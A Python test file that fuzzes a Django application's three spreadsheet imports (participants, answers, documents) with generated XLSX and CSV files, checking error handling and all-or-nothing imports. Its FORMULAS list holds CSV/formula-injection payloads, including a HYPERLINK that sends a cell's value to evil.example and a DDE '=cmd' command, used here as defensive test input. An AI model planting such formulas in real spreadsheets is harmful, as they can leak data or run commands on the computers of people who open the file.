"""The three spreadsheet imports fuzzed through their real pages (upload → preview → confirm), as a
persona allowed to import: real XLSX files (openpyxl) — and CSV, which the imports read too and
which can hold what XML cannot (NUL bytes) — with the real template's headings, columns dropped,
duplicated, added and shuffled, and cells of every kind (text in any script, control characters,
long text, formulas, numbers, infinities, dates, booleans, empty).

Asserted for every example: never a 5xx; an unreadable file is refused at upload with a message and
nothing is kept; every problem of the preview is shown on it, each naming a row of the sheet that
exists (or none, for the whole file); confirming writes nothing when there are problems, and
exactly what the preview announced otherwise (all the rows or none).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from django.utils.text import capfirst
from hypothesis import event, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from relais.delivery.import_vocabulary import TEMPLATE_HEADERS as PARTICIPANT_HEADERS
from relais.delivery.models import Registration
from relais.delivery.tests.factories import make_session
from relais.design.tests.factories import make_complete_design
from relais.evaluation.import_answers_template import template_xlsx as answers_template
from relais.evaluation.models import Response
from relais.evaluation.tests.import_sheets import HEADER as ANSWER_HEADER
from relais.evaluation.tests.import_sheets import build_world
from relais.knowledge.import_documents_read import TEMPLATE_HEADERS as DOCUMENT_HEADERS
from relais.knowledge.models import Document
from tests.security.conftest import fuzz_settings, row_counts, stored_files

pytestmark = pytest.mark.django_db

_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")

# --- Cells -----------------------------------------------------------------------------------

FORMULAS = ["=1+1", "=SUM(A1:A3)", '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0",
            "@SUM(1+1)", "+33 6 00", "-2+3", "=1/0", "=NA()"]  # fmt: skip
PLAUSIBLE = ["Ana", "Hoxha", "Đorđević", "Ελένη", "Иван", "F", "M", "Albania", "Italy", "AL", "RS",
             "ana@example.org", "a", "b", "c", "a;c", "1", "3", "5", "guideline", "English", "en", "2023", "public",
             "Yes", "Oui"]  # fmt: skip


def _long(char: str, size: int) -> str:
    return char * size


TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
CELLS = st.one_of(
    st.none(),
    st.just(""),
    st.sampled_from(PLAUSIBLE),
    TEXT,
    st.builds(_long, st.sampled_from(["x", "é", "字", " ", "\n"]), st.sampled_from([300, 4_000, 40_000])),
    st.sampled_from(FORMULAS),
    st.integers(min_value=-(2**63), max_value=2**63),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(min_value=dt.date(1, 1, 1)),
    st.datetimes(min_value=dt.datetime(1900, 1, 1)),
    st.booleans(),
)


def _xlsx_value(value: Any) -> Any:
    """What openpyxl can write: no character XML forbids, no infinity nor NaN (written as text)."""
    if isinstance(value, str):
        return _XML_ILLEGAL.sub("", value)
    if isinstance(value, float) and not math.isfinite(value):
        return str(value)
    return value


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for cells in rows:
        sheet.append([_xlsx_value(v) for v in cells])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows: list[list[Any]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    for cells in rows:
        writer.writerow(["" if v is None else str(v) for v in cells])
    return out.getvalue().encode("utf-8", errors="surrogatepass")


Valid = Callable[[str], st.SearchStrategy[Any]]  # heading → the values the import accepts there


@st.composite
def sheets(draw: st.DrawFn, headers: list[str], valid: Valid) -> tuple[str, bytes, int]:
    """(name, bytes, data rows). Half the examples are clean (every heading, shuffled, valid values in
    any script), the others noisy: headings dropped, duplicated, added and shuffled, cells of any kind."""
    clean = draw(st.booleans())
    if clean:
        columns = list(draw(st.permutations(headers)))
    else:
        columns = [h for h in headers if draw(st.integers(0, 3))]
        columns += draw(st.lists(st.sampled_from(headers), max_size=2)) + draw(st.lists(TEXT, max_size=2))
        columns = list(draw(st.permutations(columns)))
    count = draw(st.integers(0, 6))
    body = [[draw(valid(h) if clean else st.one_of(valid(h), CELLS)) for h in columns] for _ in range(count)]
    if clean and count:  # one row per participant, as a clean sheet has
        for index, heading in enumerate(columns):
            if heading in UNIQUE:
                values = draw(st.lists(valid(heading), min_size=count, max_size=count, unique=True))
                for cells, value in zip(body, values, strict=True):
                    cells[index] = value
    rows = [columns, *body] if clean or draw(st.integers(0, 9)) else body  # now and then no header row
    if draw(st.integers(0, 3)):
        return "list.xlsx", xlsx_bytes(rows), count
    if draw(st.booleans()):  # a long title line: what follows is beyond the part sniffed for binary bytes
        rows = [["Participants — " + "x" * 5000], *rows]
    return "list.csv", csv_bytes(rows), count


UNIQUE = ("E-mail", "Participant")
LETTERS = st.text(st.characters(categories=["L"]), min_size=1, max_size=30).filter(lambda t: t.strip() == t)


def participant_values(header: str) -> st.SearchStrategy[Any]:
    return {
        "First name": LETTERS,
        "Last name": LETTERS,
        "Gender": st.sampled_from(["F", "M", "", "female", "Homme"]),
        "Country": st.sampled_from(["Albania", "Italy", "AL", "Shqipëri"]),
        "E-mail": st.builds("{}@example.org".format, st.text("abcdefghij.", min_size=4, max_size=12)).filter(
            lambda e: not e.startswith(".") and ".." not in e and ".@" not in e
        ),
        "Telephone": st.sampled_from(["+355 69 000 0001", "", "069 123 456"]),
    }.get(header, st.one_of(st.just(""), LETTERS) if header in ("Organisation", "Position") else st.just(""))


def document_values(header: str) -> st.SearchStrategy[Any]:
    return {
        "Title": LETTERS,
        "Type": st.sampled_from(["guideline", "Report", "manual"]),
        "Language": st.sampled_from(["en", "English", "fr", "Albanian"]),
        "Year": st.integers(1950, 2026),
        "Access": st.sampled_from(["public", "internal", ""]),
        "URL": st.sampled_from(["", "https://example.org/guide"]),
    }.get(header, st.just(""))


# --- The pages -----------------------------------------------------------------------------------


def blocking(preview: Any) -> list[Any]:
    """The problems that stop an import (the catalogue's warnings do not)."""
    checked = preview.context["checked"]
    return list(checked.errors) if hasattr(checked, "errors") else list(checked.problems)


def _problems_named(preview: Any, sheet_rows: int) -> None:
    """Every problem is on the page, and names a row the sheet has (or none, for the whole file)."""
    html = preview.content.decode()
    checked = preview.context["checked"]
    last_row = sheet_rows + 2  # the header row, and a row numbered from 1
    for problem in checked.problems:
        assert escape(capfirst(problem.message if hasattr(problem, "message") else problem.reason)) in html
        assert problem.row is None or 1 <= problem.row <= last_row, str(problem)


def run_import(
    client: Client,
    upload: Callable[[str, bytes], Any],
    confirm_count: Callable[[], int],
    announced: Callable[[Any], int],
    drawn: tuple[str, bytes, int],
    media: Path,
) -> None:
    name, data, count = drawn
    before, kept = row_counts(), stored_files(media)
    response = upload(name, data)
    assert response.status_code in (302, 400), response.status_code
    event(f"upload {response.status_code}")
    if response.status_code == 400:  # unreadable: refused at upload, with its reason; nothing kept
        errors = [str(e) for errors in response.context["form"].errors.values() for e in errors]
        assert errors and all(escape(e) in response.content.decode() for e in errors)
        assert stored_files(media) == kept and row_counts() == before
        return
    url = response["Location"]
    preview = client.get(url)
    assert preview.status_code == 200
    _problems_named(preview, count)
    assert row_counts() == before
    problems = bool(blocking(preview))
    expected = 0 if problems else announced(preview)
    added_before = confirm_count()
    confirmed = client.post(url, {})
    event(f"confirm {confirmed.status_code}")
    assert confirmed.status_code in (302, 400), confirmed.status_code
    if confirmed.status_code == 400:
        assert row_counts() == before
        assert problems or blocking(client.get(url))  # a problem only a second check finds (none expected)
    else:
        assert not problems
        assert confirm_count() - added_before == expected


# --- Participants ------------------------------------------------------------------------------


@pytest.fixture
def session(programme: Any, personas: dict[str, Any], media: Path) -> Any:
    return make_session(design=make_complete_design(programme=programme), country="AL", capacity=500)


@fuzz_settings(100)
@given(drawn=sheets(list(PARTICIPANT_HEADERS["en"]), participant_values))
def test_participant_lists(client: Client, personas: dict[str, Any], session: Any, media: Path, drawn: Any) -> None:
    client.force_login(personas["coordinator_al"])
    url = reverse("delivery:registration_import", kwargs={"pk": session.pk})
    run_import(
        client,
        lambda name, data: client.post(url, {"file": SimpleUploadedFile(name, data)}),
        lambda: Registration.objects.filter(session=session).count(),
        lambda preview: preview.context["plan"].to_add,
        drawn,
        media,
    )


# --- Answers -------------------------------------------------------------------------------------


@pytest.fixture
def answers(programme: Any, personas: dict[str, Any], media: Path) -> dict[str, Any]:
    world = build_world(programme)
    book = load_workbook(io.BytesIO(answers_template(world["questionnaire"], names=True)), read_only=True)
    sheet = book["Answers"]
    world["headers"] = [str(c) for c in next(sheet.iter_rows(max_row=1, values_only=True)) if c]
    world["keys"] = [f"R{r.pk}" for r in world["regs"].values()]
    return world


def answer_values(keys: list[str]) -> Valid:
    def values(header: str) -> st.SearchStrategy[Any]:
        number = header.split(" ", 1)[0]
        return {
            "Participant": st.sampled_from(keys),
            "Q1": st.sampled_from(["a", "b", "c", "Yes", "Non"]),
            "Q2": st.sampled_from(["a", "a;c", "b; c", "Passport withheld"]),
            "Q3": st.integers(1, 5),
            "Q4": st.one_of(st.just(""), st.integers(0, 500)),
            "Q5": st.one_of(st.just(""), LETTERS),
        }.get(number, st.just(""))

    return values


@fuzz_settings(100)
@given(data=st.data())
def test_answer_sheets(
    client: Client, personas: dict[str, Any], answers: dict[str, Any], media: Path, data: st.DataObject
) -> None:
    questionnaire = answers["questionnaire"]
    Response.objects.filter(questionnaire=questionnaire).delete()  # each example starts with no answers
    client.force_login(personas["coordinator_al"])
    url = reverse("evaluation:import", kwargs={"pk": questionnaire.pk})
    run_import(
        client,
        lambda name, data: client.post(url, {"file": SimpleUploadedFile(name, data)}),
        lambda: Response.objects.filter(questionnaire=questionnaire).count(),
        lambda preview: preview.context["to_create"],
        data.draw(sheets(answers["headers"], answer_values(answers["keys"]))),
        media,
    )


# --- Documents ---------------------------------------------------------------------------------


@fuzz_settings(100)
@given(drawn=sheets(list(DOCUMENT_HEADERS["en"]), document_values))
def test_document_catalogues(client: Client, personas: dict[str, Any], media: Path, drawn: Any) -> None:
    client.force_login(personas["manager"])
    url = reverse("knowledge:import")
    run_import(
        client,
        lambda name, data: client.post(url, {"sheet": SimpleUploadedFile(name, data)}),
        lambda: Document.objects.count(),
        lambda preview: preview.context["checked"].to_create,
        drawn,
        media,
    )


# --- Regressions -------------------------------------------------------------------------------


def _csv_with_controls(headers: list[str], values: list[str]) -> bytes:
    """A CSV whose NUL and other control characters come after the first 4 KB (the part sniffed)."""
    lines = [";".join(headers)] + [";".join(values).replace("{n}", str(n)) for n in range(60)]
    lines.append(";".join(v.replace("{n}", "\x00\x01x\x7f") for v in values))
    return ("\n".join(lines) + "\n").encode()


@pytest.mark.parametrize("which", ["participants", "answers", "documents"])
def test_control_characters_past_the_sniffed_part_are_dropped(
    client: Client, personas: dict[str, Any], answers: dict[str, Any], session: Any, media: Path, which: str
) -> None:
    """A NUL deep in a CSV gave a 500 on PostgreSQL (text cannot hold it) when the preview looked the
    names up; cells now lose their control characters."""
    if which == "participants":
        client.force_login(personas["coordinator_al"])
        url = reverse("delivery:registration_import", kwargs={"pk": session.pk})
        data = _csv_with_controls(
            ["First name", "Last name", "Country", "Position"], ["Ana{n}", "Ho{n}", "AL", "x" * 90]
        )
        field, count = "file", lambda: Registration.objects.count()
    elif which == "answers":
        client.force_login(personas["coordinator_al"])
        url = reverse("evaluation:import", kwargs={"pk": answers["questionnaire"].pk})
        regs = [f"R{r.pk}" for name, r in answers["regs"].items() if name != "wendy"]
        lines = [";".join(ANSWER_HEADER)] + [f"{key};{'x' * 700};a;a;3;;Joint teams" for key in regs[:7]]
        lines.append(f"{regs[7]};;a;a;3;;Joint\x00 teams\x01")
        data, field, count = ("\n".join(lines) + "\n").encode(), "file", lambda: Response.objects.count()
    else:
        client.force_login(personas["manager"])
        url = reverse("knowledge:import")
        data = _csv_with_controls(["Title", "Type", "Language", "Abstract"], ["Guide {n}", "guideline", "en", "y" * 90])
        field, count = "sheet", lambda: Document.objects.count()
    response = client.post(url, {field: SimpleUploadedFile("list.csv", data)})
    assert response.status_code == 302
    preview = client.get(response["Location"])
    assert preview.status_code == 200 and not blocking(preview), [str(p) for p in blocking(preview)]
    assert client.post(response["Location"], {}).status_code == 302
    assert count() > 0
    from relais.delivery.models import Person
    from relais.evaluation.models import Answer

    texts = [*Person.objects.values_list("first_name", "last_name"), *Document.objects.values_list("title", "abstract")]
    strings = ["".join(t) for t in texts] + [str(a) for a in Answer.objects.values_list("value", flat=True)]
    assert not any(ch in text for text in strings for ch in "\x00\x01\x7f")
